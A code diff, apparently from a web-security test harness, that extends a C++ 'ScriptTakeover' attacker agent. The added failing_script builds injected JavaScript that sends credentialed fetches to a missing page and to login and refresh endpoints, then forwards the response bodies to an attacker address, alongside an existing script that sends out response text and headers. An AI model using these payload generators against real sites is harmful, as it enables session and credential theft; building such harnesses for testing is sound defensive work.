@@ -34,7 +34,7 @@ class ScriptTakeover final : public Agent {
         victim_does(target, routines);
         victim_does(target, split(target.option(option::kLater), ','));
         // A policy may have forgotten that a page can be left. With what the page says itself.
-        serve(*host, path, leaving_script(target, address));
+        serve(*host, path, failing_script(target, address) + leaving_script(target, address));
         victim_does(target, routines);
         use_loot(target, *host);
     }
@@ -61,6 +61,19 @@ class ScriptTakeover final : public Agent {
                       ",credentials:\"include\"}).then(r=>r.text().then(t=>{"
                       "send(t+\"\\n\"+[...r.headers].join(\"\\n\"));look()}));";
         return script + "})();";
+    }
+
+    // What cannot be answered may be answered with what came: an address that is nowhere, and a
+    // body that nobody reads, wherever a cookie may go.
+    static std::string failing_script(Target const& target, std::string const& address) {
+        std::string script = "for(const f of[fetch(\"/no-such-page\")";
+        for (std::string_view const id : {option::kLogin, option::kRefresh})
+            if (Endpoint const* each = endpoint_option(target, id, id))
+                script += ",fetch(" + script_string(each->path) +
+                          ",{method:\"POST\",headers:{\"content-type\":"
+                          "\"application/x-www-form-urlencoded;charset=none\"},body:\"a=b\"})";
+        return script + "])f.then(r=>r.text()).then(t=>{" +
+               send_script(Channel::Fetch, address, "t") + "});";
     }
 
     // A cookie may have a path of its own, and is in reach of a document that lies there.
